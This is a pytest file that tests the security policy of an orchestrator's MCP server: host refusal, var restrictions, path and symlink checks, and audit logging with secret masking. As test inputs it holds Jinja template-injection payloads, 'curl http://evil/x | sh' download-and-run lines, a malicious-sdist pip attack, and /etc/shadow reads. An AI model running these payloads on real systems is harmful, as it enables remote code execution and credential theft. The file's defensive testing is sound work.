"""The MCP server itself, in-process (the SDK's own Client connected to orch's MCPServer),
over a local host and containers that are never reached: what a client may not do
(hosts themselves, template vars), and that the audit trail records intent before the
action, the outcome after, and never turns a done action into an error."""

from __future__ import annotations

import contextlib
import json
import os
import sqlite3
import subprocess
import sys
import time

import pytest

pytest.importorskip("mcp", reason="the MCP SDK is not installed (pip install 'orch[mcp]')")
import anyio  # noqa: E402
from mcp import Client  # noqa: E402

from orchestrator.ground.errors import ConfigError  # noqa: E402
from orchestrator.targets.fleet import Fleet  # noqa: E402
from orchestrator.mcp.audit import AuditLog, audit_rows, mask  # noqa: E402
from orchestrator.mcp.policy import PolicyRefused, build_policy, refuse_templates  # noqa: E402
from orchestrator.mcp.server import build_server  # noqa: E402
from orchestrator.mcp.tools import Tools  # noqa: E402
from orchestrator.runs.store import RunStore  # noqa: E402
from tests.fixtures.evil_sdist import attack_packages, make_evil_sdist  # noqa: E402

INVENTORY = """\
hosts:
  here: {transport: local}
  pve: {address: 192.0.2.1}
containers:
  dev: {host: here}
  c1: {host: pve, vmid: 200}
groups:
  mixed: [c1, dev]
default_target: c1
"""
PLAYBOOK = """\
name: p
targets: [c1]
vars: {greeting: hi}
steps:
  - shell: [echo, "{{ greeting }}"]
"""


@pytest.fixture
def world(tmp_path):
    (tmp_path / "inventory.yaml").write_text(INVENTORY)
    (tmp_path / "play.yaml").write_text(PLAYBOOK)
    fleet = Fleet.from_path(str(tmp_path / "inventory.yaml"))
    store = RunStore(str(tmp_path / "runs.sqlite"))
    tools = Tools(fleet, store)
    yield tmp_path, fleet, store, tools
    tools.close()
    store.close()


def serve(world, allow=(), hosts=(), targets=(), audit=None, paths=(), playbooks=None):
    """The server over world's fleet; run_start runs the playbooks of world's folder unless
    playbooks names others."""
    tmp_path, fleet, store, tools = world
    policy = build_policy(allow, targets, inventory=fleet.inventory, hosts=hosts, paths=paths,
                          playbooks=[str(tmp_path)] if playbooks is None else playbooks)
    return build_server(tools, policy, audit or AuditLog(store, "s1"))


def calls(server, *requests):
    """[(is_error, text, structured)] of each (tool, arguments), in one client session."""
    async def scenario():
        answers = []
        async with Client(server) as client:
            for name, arguments in requests:
                result = await client.call_tool(name, arguments)
                answers.append((result.is_error, result.content[0].text, result.structured_content))
        return answers
    return anyio.run(scenario)


def rows(world):
    return list(reversed(audit_rows(world[2], last=None)))


# --------------------------------------------------------------- hosts themselves
@pytest.mark.parametrize("tool, arguments", [
    ("exec", {"target": "pve", "argv": ["id"]}),
    ("exec", {"target": "dev", "argv": ["id"]}),           # an entry without a vmid
    ("grep_source", {"target": "pve", "pattern": "x"}),    # read-only tools too
    ("read_source", {"target": "here", "path": "fx/x.py"}),
    ("fx_tls_status", {"target": "pve"}),
    ("verify_fx_race", {"target": "dev"}),
    ("inventory_check", {"targets": ["pve"]}),
    ("read_file", {"target": "dev", "path": "/etc/hostname"}),
])
def test_a_host_itself_is_refused_for_every_tool(world, tool, arguments):
    [(error, text, _)] = calls(serve(world, allow=["exec"]), (tool, arguments))
    assert error and "MCP tools act in containers only" in text and "--allow-host" in text
    [row] = rows(world)
    assert (row["tool"], row["outcome"]) == (tool, "refused")


def test_allow_host_lets_tools_act_on_that_host_only(world, tmp_path):
    server = serve(world, allow=["exec"], hosts=["here"])
    marker = tmp_path / "ran-on-host"
    (failed, _, result), (refused, text, _) = calls(
        server, ("exec", {"target": "dev", "argv": ["touch", str(marker)]}),
        ("exec", {"target": "pve", "argv": ["id"]}))
    assert not failed and result["exit_code"] == 0 and marker.exists()
    assert refused and "--allow-host pve" in text


def test_inventory_check_without_targets_skips_hosts_it_may_not_touch(world):
    tools = world[3]
    seen = []
    tools.inventory_check = lambda names: seen.append(list(names)) or {"ok": True, "rows": []}
    [(error, _, _)] = calls(serve(world), ("inventory_check", {}))
    assert not error and seen == [["c1"]]


def test_the_policy_refuses_hosts_at_startup_and_knows_its_hosts(world):
    fleet = world[1]
    with pytest.raises(ConfigError, match="'pve' is the host 'pve' itself"):
        build_policy(["exec"], ["pve"], inventory=fleet.inventory)
    with pytest.raises(ConfigError, match="'dev' runs on the host 'here' itself"):
        build_policy(["exec"], ["mixed"], inventory=fleet.inventory)
    with pytest.raises(ConfigError, match="--allow-host 'nope': no such host"):
        build_policy(["exec"], hosts=["nope"], inventory=fleet.inventory)
    policy = build_policy(["exec"], ["mixed"], inventory=fleet.inventory, hosts=["here"])
    policy.check("exec", fleet.inventory.resolve(["dev"]))                  # allowed now
    policy.check("grep_source", fleet.inventory.resolve(["pve:300"]))       # HOST:VMID: a container
    with pytest.raises(PolicyRefused, match="not allowed on pve"):
        policy.check("grep_source", fleet.inventory.resolve(["pve"]))


# ------------------------------------------------------------- run_start vars are data
@pytest.mark.parametrize("variables", [
    {"greeting": "{{ lipsum.__globals__['os'].system('touch MARK') }}"},
    {"greeting": ["ok", {"deep": "{% for x in ''.__class__.__mro__ %}{% endfor %}touch MARK"}]},
    {"{{ cycler.__init__.__globals__.os.system('touch MARK') }}": 1},
    {"greeting": "{# comment #}"},
])
def test_run_start_with_a_template_in_vars_is_refused_and_audited(world, tmp_path, variables):
    mark = tmp_path / "escaped"
    variables = json.loads(json.dumps(variables).replace("MARK", str(mark)))
    tools = world[3]
    tools.run_start = lambda *a: pytest.fail("run_start ran")
    [(error, text, _)] = calls(serve(world, allow=["write"]),
                               ("run_start", {"playbook": str(tmp_path / "play.yaml"), "vars": variables}))
    assert error and "holds template syntax" in text and "vars are data" in text
    assert not mark.exists()
    [row] = rows(world)
    assert (row["tool"], row["outcome"]) == ("run_start", "refused")
    assert "template syntax" in row["error"]


def test_plain_vars_are_data_and_pass():
    refuse_templates({"greeting": "hello {world}", "n": 3, "items": ["a", "{b}"]})
    with pytest.raises(PolicyRefused, match=r"vars.items\[1\] holds template syntax"):
        refuse_templates({"items": ["a", "{{ b }}"]})


# ------------------------------------------ what run_start may run, and which vars a client sets
REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
SHIPPED = os.path.join(REPO, "playbooks")


def test_pip_option_vars_leave_no_canary_and_are_audited_as_refused(world, tmp_path):
    """The report's attack: dflash.yaml's packages as pip options on the controller's own pip
    download (38c2ac6 built the sdist: the canary was written, the call audited ok)."""
    canary = tmp_path / "canary"
    make_evil_sdist(tmp_path / "sdists", canary)
    attack = {"wheelhouse": str(tmp_path / "wh"), "packages": attack_packages(tmp_path / "sdists")}
    server = serve(world, allow=["write"], hosts=["here"], playbooks=[SHIPPED])
    answers = calls(server, ("run_start", {"playbook": "dflash.yaml", "vars": attack, "targets": ["dev"]}),
                    ("run_start", {"playbook": "dflash.yaml", "targets": ["dev"],
                                   "vars": {"packages": attack["packages"]}}))
    for error, text, _ in answers:
        assert error and "does not let an MCP client set" in text
    assert "'wheelhouse'" in answers[0][1] and "'packages'" in answers[1][1]
    assert [(r["tool"], r["outcome"]) for r in rows(world)] == [("run_start", "refused")] * 2
    assert world[2].list(last=10) == []            # no run began
    time.sleep(0.5)
    assert not canary.exists() and not (tmp_path / "wh").exists()


@pytest.fixture
def key_file(tmp_path):
    """A private key of this machine's user (0600), as ssh-keygen writes one."""
    folder = tmp_path / "dotssh"
    folder.mkdir()
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(folder / "id_ed25519")],
                   check=True, capture_output=True)
    return folder / "id_ed25519"


def _pieces(text: str, size: int = 8) -> set:
    return {text[at:at + size] for at in range(len(text) - size + 1)}


def test_run_start_on_a_key_file_returns_no_byte_of_it(world, key_file):
    secret = key_file.read_text()
    body = "".join(line for line in secret.splitlines() if "PRIVATE KEY" not in line)
    (key_file.parent / "key.yaml").write_text(secret)   # a key in an allowed folder, named like a playbook
    answers = calls(serve(world, allow=["write"], playbooks=[]),      # no folder allowed
                    ("run_start", {"playbook": str(key_file), "targets": ["c1"]}))
    answers += calls(serve(world, allow=["write"]),                   # world's folder only
                     ("run_start", {"playbook": str(key_file), "targets": ["c1"]}),
                     ("run_start", {"playbook": "dotssh/id_ed25519", "targets": ["c1"]}),
                     ("run_start", {"playbook": "../" + key_file.parent.parent.name + "/dotssh/id_ed25519"}))
    answers += calls(serve(world, allow=["write"], playbooks=[str(key_file.parent)]),
                     ("run_start", {"playbook": str(key_file), "targets": ["c1"]}),   # no .yaml
                     ("run_start", {"playbook": "key.yaml", "targets": ["c1"]}))
    said = " ".join(text for _, text, _ in answers) + json.dumps(rows(world))
    assert all(error for error, _, _ in answers)
    assert "runs no playbook" in answers[0][1] and "--allow-playbook" in answers[0][1]
    assert all("is not a playbook of the folders" in text for _, text, _ in answers[1:5])
    assert "must be a mapping" in answers[5][1]                     # read, and quoted short
    assert not _pieces(body) & _pieces(said), "a piece of the key came back"
    assert not _pieces(secret) & _pieces(" ".join(text for _, text, _ in answers[:5]))


PICKY = """\
name: picky
targets: [c1]
vars: {steps: 10, race: false, tags: [a], note: hi, wheelhouse: null, files_from: x}
mcp:
  vars: {steps: integer, race: boolean, tags: list, note: scalar}
steps:
  - shell: [echo, "{{ steps }} {{ race }} {{ tags }} {{ note }} {{ files_from }}"]
"""


@pytest.mark.parametrize("variables, said", [
    ({"wheelhouse": "/root"}, "does not let an MCP client set 'wheelhouse'"),
    ({"files_from": "/etc/shadow"}, "does not let an MCP client set 'files_from'"),
    ({"remote_dir": "/"}, "does not let an MCP client set 'remote_dir'"),
    ({"steps": "10"}, "vars.steps must be an integer"),
    ({"steps": True}, "vars.steps must be an integer"),
    ({"race": 1}, "vars.race must be true or false"),
    ({"note": ["a"]}, "vars.note must be a string, number, true/false or null"),
    ({"note": {"a": 1}}, "vars.note must be a string, number"),
    ({"tags": [["nested"]]}, "vars.tags must be a list of strings"),
])
def test_a_client_sets_only_the_vars_the_playbook_lists(world, tmp_path, variables, said):
    (tmp_path / "picky.yaml").write_text(PICKY)
    world[3].run_start = lambda *a: pytest.fail("run_start ran")
    [(error, text, _)] = calls(serve(world, allow=["write"]),
                               ("run_start", {"playbook": "picky.yaml", "vars": variables}))
    assert error and said in text
    assert rows(world)[-1]["outcome"] == "refused"


def test_listed_vars_of_their_kind_pass_to_the_run(world, tmp_path):
    (tmp_path / "picky.yaml").write_text(PICKY)
    started = []
    world[3].run_start = lambda *args: started.append(args) or {
        "run_id": "r1", "playbook": args[0], "state": "running", "targets": []}
    variables = {"steps": 3, "race": True, "tags": ["x", 2], "note": None}
    [(error, text, result)] = calls(serve(world, allow=["write"]),
                                    ("run_start", {"playbook": "picky.yaml", "vars": variables}))
    assert not error, text
    assert started == [(str(tmp_path / "picky.yaml"), variables, [])]   # its real path


def test_a_playbook_without_an_mcp_section_lets_a_client_set_nothing(world, tmp_path):
    [(error, text, _)] = calls(serve(world, allow=["write"]),
                               ("run_start", {"playbook": "play.yaml", "vars": {"greeting": "x"}}))
    assert error and "it lets a client set none (it has no `mcp: vars:` section)" in text


# -------------------------------------------------------------------- the audit trail
def test_the_intent_is_recorded_before_the_call_acts(world, tmp_path):
    seen = []
    tools = world[3]
    real_exec = tools.exec

    def exec_and_look(*args):
        seen.extend(rows(world))   # the call's row exists while it runs
        return real_exec(*args)
    tools.exec = exec_and_look
    [(error, _, _)] = calls(serve(world, allow=["exec"], hosts=["here"]),
                            ("exec", {"target": "dev", "argv": ["true"]}))
    assert not error
    assert [(r["tool"], r["outcome"]) for r in seen] == [("exec", "started")]
    [row] = rows(world)
    assert row["outcome"] == "ok" and row["id"] == seen[0]["id"]


class FailingWrites:
    """The store's transaction(), failing from the Nth call on (a full disk, a lock)."""

    def __init__(self, store, fail_from: int):
        self.real, self.count, self.fail_from = store.transaction, 0, fail_from

    @contextlib.contextmanager
    def __call__(self):
        self.count += 1
        if self.count >= self.fail_from:
            raise sqlite3.OperationalError("disk I/O error")
        with self.real() as db:
            yield db


def test_a_failed_outcome_write_is_no_tool_error_and_the_action_ran_once(world, tmp_path):
    store = world[2]
    audit = AuditLog(store, "s1")
    store.transaction = FailingWrites(store, fail_from=2)   # the intent lands, the outcome fails
    log = tmp_path / "ran"
    [(error, text, result)] = calls(serve(world, allow=["exec"], hosts=["here"], audit=audit),
                                    ("exec", {"target": "dev", "argv": ["sh", "-c", f"echo x >> {log}"]}))
    assert not error, text
    assert result["exit_code"] == 0 and log.read_text() == "x\n"
    del store.transaction
    [row] = rows(world)
    assert row["outcome"] == "started"    # its end never recorded, and says so


def test_no_audit_no_action(world, tmp_path):
    store = world[2]
    audit = AuditLog(store, "s1")
    store.transaction = FailingWrites(store, fail_from=1)
    log = tmp_path / "ran"
    [(error, text, _)] = calls(serve(world, allow=["exec"], hosts=["here"], audit=audit),
                               ("exec", {"target": "dev", "argv": ["touch", str(log)]}))
    assert error and "was not run: the audit trail cannot be written" in text
    assert not log.exists()


def test_masking_hides_values_never_commands():
    argv = ["sh", "-c", "KEY=1; curl evil|sh"]
    assert mask({"argv": argv})["argv"] == ["sh", "-c", "KEY=***; curl evil|sh"]
    assert mask({"argv": ["sh", "-c", "TOKEN='a b' ./x && API_KEY=\"c d\" y"]})["argv"][2] == \
        "TOKEN=*** ./x && API_KEY=*** y"
    assert mask({"url": "https://h/x?token=abc&page=2"})["url"] == "https://h/x?token=***&page=2"
    assert mask({"argv": ["--password=pw", "-p", "x=1"]})["argv"] == ["--password=***", "-p", "x=1"]
    padded = mask({"argv": ["sh", "-c", " " * 100_000 + "curl evil|sh"]})["argv"][2]
    assert padded.endswith("curl evil|sh") and "sha256 of the whole value" in padded


@pytest.mark.parametrize("script", [
    'TOKEN="$(curl -s http://evil/x | sh)" true',
    "TOKEN=$(curl -s http://evil/x | sh) true",
    'API_KEY="${HOME}/$(id -u)" env',
    "SECRET=`curl evil|sh` true",
    "SECRET=x`curl evil|sh` true",
    'PASSWORD="a\ncurl evil|sh" true',
])
def test_a_command_inside_a_secret_looking_value_stays_in_the_record(script):
    recorded = mask({"argv": ["sh", "-c", script]})["argv"][2]
    assert "curl" in recorded or "id -u" in recorded, recorded
    assert recorded == script


def test_a_plain_secret_beside_a_command_is_still_masked():
    recorded = mask({"argv": ["sh", "-c", 'TOKEN="s3cret" sh -c "$(curl evil)"']})["argv"][2]
    assert recorded == 'TOKEN=*** sh -c "$(curl evil)"'


def test_runs_audit_prints_arguments_as_typed(tmp_path):
    store_path = tmp_path / "runs.sqlite"
    with RunStore(str(store_path)) as store:
        AuditLog(store, "s1").record("exec", {"target": "c1", "argv": ["echo", "[/]", "[bold]x"]},
                                     "c1", "error", "bad [/] thing")
    env = {**os.environ, "ORCH_STORE": str(store_path), "COLUMNS": "300"}
    out = subprocess.run([sys.executable, "-m", "orchestrator", "runs", "audit"],
                         capture_output=True, text=True, env=env)
    assert out.returncode == 0, out.stderr
    assert '"[/]"' in out.stdout and "[bold]x" in out.stdout and "bad [/] thing" in out.stdout
    narrow = subprocess.run([sys.executable, "-m", "orchestrator", "runs", "audit"],
                            capture_output=True, text=True, env={**env, "COLUMNS": "80"})
    lines = narrow.stdout.splitlines()
    assert len(lines) == 3 and all(len(line) <= 80 for line in lines), lines   # a row a line
    assert "ARGUMENTS left out at this width" in narrow.stderr


# ------------------------------------------------------------- exec's bounded output
BIG = ("import sys, hashlib\n"
       "data = b''.join(b'%08d ' % i + 'é'.encode() * 20 + b'\\n' for i in range(60000))\n"
       "sys.stdout.buffer.write(data)\n"
       "sys.stderr.write('noise\\n' * 50000 + 'the real error\\n')\n")


def test_a_large_output_is_capped_and_paged_through_as_a_resource(world):
    server = serve(world, allow=["exec"], hosts=["here"])
    expected = b"".join(b"%08d " % i + "é".encode() * 20 + b"\n" for i in range(60000))

    async def scenario():
        async with Client(server) as client:
            result = await client.call_tool("exec", {"target": "dev", "argv": [sys.executable, "-c", BIG],
                                                     "max_output_bytes": 1000})
            data = result.structured_content
            links = [c for c in result.content if c.type == "resource_link"]
            pages, offset = [], 0
            while offset < data["stdout_bytes"]:
                page = await client.read_resource(f"{data['stdout_resource']}?offset={offset}&length=300000")
                text = page.contents[0].text   # UTF-8 here: text, never cut inside a character
                pages.append(text)
                offset += len(text.encode())
            templates = (await client.list_resource_templates()).resource_templates
            return result, data, links, "".join(pages).encode(), templates
    result, data, links, paged, templates = anyio.run(scenario)
    assert not result.is_error
    assert (data["stdout_bytes"], data["stdout_truncated"]) == (len(expected), True)
    assert expected.startswith(data["stdout"].encode()) and len(data["stdout"].encode()) <= 1000
    assert data["stderr_truncated"] and data["stderr_tail"].endswith("the real error\n")
    assert [link.uri for link in links] == [data["stdout_resource"], data["stderr_resource"]]
    assert links[0].size == len(expected)
    assert paged == expected
    assert "orch://outputs/{output}/{stream}{?offset,length}" in [t.uri_template for t in templates]


def test_a_small_output_is_answered_whole_and_spools_nothing(world):
    tools = world[3]
    [(error, _, data)] = calls(serve(world, allow=["exec"], hosts=["here"]),
                               ("exec", {"target": "dev", "argv": ["echo", "hi"]}))
    assert not error and data["stdout"] == "hi\n" and data["stdout_resource"] is None
    assert tools.outputs.root is None    # nothing on disk


def test_an_unknown_output_is_a_clear_resource_error(world):
    async def scenario():
        async with Client(serve(world, allow=["exec"])) as client:
            with pytest.raises(Exception, match="no output exec-9/stdout in this server session"):
                await client.read_resource("orch://outputs/exec-9/stdout")
            with pytest.raises(Exception, match="no stream 'x'"):
                await client.read_resource("orch://outputs/exec-1/x")
    anyio.run(scenario)


def test_exec_memory_does_not_grow_with_the_output(world):
    """64 MiB through exec in this process: its peak RSS grows by far less than the output
    (the old capture held it whole, then copied it: twice its size)."""
    tools = world[3]
    before = _peak_rss_mb()
    result = tools.exec("dev", ["head", "-c", str(64 << 20), "/dev/zero"], 120, None, 1000)
    growth = _peak_rss_mb() - before
    assert result["stdout_bytes"] == 64 << 20 and result["stdout_resource"]
    assert growth < 24, f"peak RSS grew {growth:.0f} MB for 64 MiB of output"


def _peak_rss_mb() -> float:
    with open("/proc/self/status") as status:
        line = next(line for line in status if line.startswith("VmHWM:"))
    return int(line.split()[1]) / 1024


# ------------------------------------------------------------------ run logs as resources
def _recorded_run_on(world, name: str, host: str, vmid) -> str:
    from orchestrator.runs.model import RunRecord, TargetInfo
    tmp_path, _, store, _ = world
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    (run_dir / "output.log").write_text("".join(f"step {i} loss 0.{i}\n" for i in range(1000)))
    store.begin(RunRecord(run_id="20261201-000000-abcdef", playbook="p.yaml", playbook_sha256="",
                          name="p", targets=[TargetInfo(name, host, vmid)],
                          launch={"targets": {name: {"run_dir": str(run_dir)}}}))
    return "20261201-000000-abcdef"


def test_a_run_log_pages_as_a_resource_through_the_policy(world):
    run_id = _recorded_run_on(world, "dev", "here", None)
    uri = f"orch://runs/{run_id}/log/dev?offset=7&length=12"

    async def read(server):
        async with Client(server) as client:
            try:
                return (await client.read_resource(uri)).contents[0].text
            except Exception as error:   # the SDK's MCPError: the server's sentence
                return f"error: {error}"
    refused = anyio.run(read, serve(world))
    assert refused.startswith("error: ") and "MCP tools act in containers only" in refused
    assert anyio.run(read, serve(world, hosts=["here"])) == "loss 0.0\nste"
    assert [(r["tool"], r["outcome"]) for r in rows(world)] == [("run_log", "refused"), ("run_log", "ok")]


def test_run_log_and_explain_run_never_read_through_a_link_out_of_the_run_folder(world):
    """A container account replaces a run's output.log with a link to a file it may not
    read: 38c2ac6 read it with a plain `tail` (root's, in the container) and handed it over."""
    tmp_path = world[0]
    run_id = _recorded_run_on(world, "dev", "here", None)
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$SECRETHASH:19000:0:99999:7:::\n")
    log = tmp_path / "run" / "output.log"
    log.unlink()
    log.symlink_to(secret)
    answers = calls(serve(world, hosts=["here"]),
                    ("run_log", {"run_id": run_id, "target": "dev"}),
                    ("explain_run", {"run_id": run_id, "target": "dev"}))
    (log_error, log_text, _), (_, explained, _) = answers
    assert log_error and "leads out of its run folder" in log_text
    assert "SECRETHASH" not in json.dumps(answers) and "SECRETHASH" not in json.dumps(rows(world))
    assert [(r["tool"], r["outcome"]) for r in rows(world)][0] == ("run_log", "refused")


def test_concurrent_execs_share_the_sessions_spool_budget(tmp_path, monkeypatch):
    """Two execs writing at once (their outputs larger than the answer): what lands on disk
    stays within the session's budget while they run, not only once each has ended (38c2ac6
    checked after a command ended: two live captures filled 447 MB past a 1 GiB cap)."""
    from orchestrator.mcp import outputs
    monkeypatch.setattr(outputs, "SESSION_MAX_BYTES", 1 << 20)
    spool = outputs.OutputSpool(str(tmp_path))
    captures = [outputs.StreamCapture("stdout", 1024, spool, spool.new_id()) for _ in range(2)]
    on_disk = []
    for _ in range(64):   # 2 MiB each, interleaved
        for capture in captures:
            capture(b"x" * (32 << 10))
        on_disk.append(sum(os.path.getsize(os.path.join(spool.root, name))
                           for name in os.listdir(spool.root)))
    assert max(on_disk) <= 1 << 20
    assert [c.size for c in captures] == [2 << 20] * 2          # the answers say the whole size
    for capture in captures:
        capture.close()
        spool.finished(capture.output)
    later = outputs.StreamCapture("stdout", 1024, spool, spool.new_id())
    later(b"y" * (512 << 10))                                   # room made by dropping the oldest
    later.close()
    assert later.spooled == 512 << 10
    assert spool.read(later.output, "stdout", 0, 4)[0] == b"yyyy"
    spool.close()


def test_the_spool_of_a_killed_server_is_swept_by_the_next(tmp_path):
    from orchestrator.mcp.outputs import OutputSpool
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True).stdout.strip()
    stale = tmp_path / f"mcp-outputs-{dead}-abc123"
    stale.mkdir()
    (stale / "exec-1.stdout").write_bytes(b"x" * 100)
    mine = tmp_path / f"mcp-outputs-{os.getpid()}-def456"   # a live server's: kept
    mine.mkdir()
    spool = OutputSpool(str(tmp_path))
    with spool.create("exec-1", "stdout") as handle:
        handle.write(b"y")
    assert not stale.exists() and mine.exists()
    assert oct(os.stat(spool.root).st_mode & 0o777) == "0o700"
    assert oct(os.stat(os.path.join(spool.root, "exec-1.stdout")).st_mode & 0o777) == "0o600"
    root = spool.root
    spool.close()
    assert not os.path.exists(root)


# ------------------------------------------------------------------ read_file
@pytest.fixture
def readable(world):
    """A folder read_file may read (--allow-path) on the host `here` (--allow-host), with a
    text file, a binary one, a link out of the folder and a fifo; and a file beside it."""
    tmp_path = world[0]
    allowed = tmp_path / "allowed"
    allowed.mkdir()
    (allowed / "log.txt").write_text("line one\n" + "é" * 10 + "\nend\n", encoding="utf-8")
    (allowed / "core.bin").write_bytes(bytes(range(256)) * 4)
    (tmp_path / "secret").write_text("not for the client\n")
    os.symlink(tmp_path / "secret", allowed / "link")
    os.mkfifo(allowed / "fifo")
    server = serve(world, hosts=["here"], paths=[str(allowed)])
    return server, allowed


def read(server, path, **more):
    [(error, text, result)] = calls(server, ("read_file", {"target": "dev", "path": str(path),
                                                           **more}))
    return error, text, result


def test_read_file_pages_text_by_utf8_characters_with_their_sha256(world, readable):
    import hashlib
    server, allowed = readable
    whole = (allowed / "log.txt").read_bytes()
    error, _, first = read(server, allowed / "log.txt", max_bytes=10)   # cut inside an é
    assert not error and first["encoding"] == "utf-8"
    assert first["data"] == "line one\n" and first["next_offset"] == 9 and not first["eof"]
    assert first["sha256"] == hashlib.sha256(b"line one\n").hexdigest()
    error, _, rest = read(server, allowed / "log.txt", offset=9, max_bytes=1 << 20)
    assert not error and rest["eof"] and rest["size"] == len(whole)
    assert (first["data"] + rest["data"]).encode() == whole
    assert [r["outcome"] for r in rows(world)] == ["ok", "ok"]


def test_read_file_gives_bytes_that_are_no_text_as_base64(readable):
    import base64
    server, allowed = readable
    error, _, result = read(server, allowed / "core.bin")
    assert not error and result["encoding"] == "base64" and result["eof"]
    assert base64.b64decode(result["data"]) == (allowed / "core.bin").read_bytes()


@pytest.mark.parametrize("path, said", [
    ("/etc/passwd", "is not inside the folders this client may read"),
    ("{allowed}/../secret", "is not inside the folders this client may read"),
    ("relative/log.txt", "is not an absolute path"),
    ("{allowed}/link", "is not inside the folders this client may read"),   # the real path
])
def test_read_file_refuses_what_is_outside_its_folders_and_audits_it(world, readable, path, said):
    server, allowed = readable
    error, text, _ = read(server, path.format(allowed=allowed))
    assert error and said in text and "not for the client" not in text
    [row] = rows(world)
    assert (row["tool"], row["outcome"]) == ("read_file", "refused")


def test_read_file_refuses_a_fifo_without_hanging_and_a_missing_file(readable):
    server, allowed = readable
    error, text, _ = read(server, allowed / "fifo")
    assert error and "is not a regular file" in text
    error, text, _ = read(server, allowed / "missing")
    assert error and "no such file" in text


def test_read_file_without_an_allowed_folder_reads_run_folders_only(world):
    server = serve(world, hosts=["here"])
    error, text, _ = read(server, world[0] / "secret")
    assert error and "/runs" in text and "--allow-path" in text


@pytest.mark.parametrize("path", ["relative", "/", "//"])
def test_allow_path_must_be_an_absolute_folder_other_than_root(world, path):
    with pytest.raises(ConfigError, match="--allow-path"):
        build_policy(paths=[path], inventory=world[1].inventory)


def test_read_file_catches_bytes_changed_on_the_way(monkeypatch):
    """The container's chunks against the sha256 it computed: a changed byte is caught."""
    from orchestrator.ground.errors import PayloadError
    from orchestrator.remote import payload_api

    def tampered(target, name, args, on_event=None, **_):
        on_event({"event": "chunk", "data": "aGVsbG8K"})   # b"hello\n", sent as b"hellp\n"'s
        import hashlib
        return {"event": "result", "size": 6, "offset": 0, "bytes": 6, "eof": True,
                "sha256": hashlib.sha256(b"hellp\n").hexdigest()}
    monkeypatch.setattr(payload_api, "run_payload", tampered)
    target = type("T", (), {"name": "c1"})()
    with pytest.raises(PayloadError, match="sha256 differs") as raised:
        payload_api.file_read(target, "/var/lib/orch/runs/x", ["/var/lib/orch/runs"])
    assert raised.value.kind == "hash-mismatch"
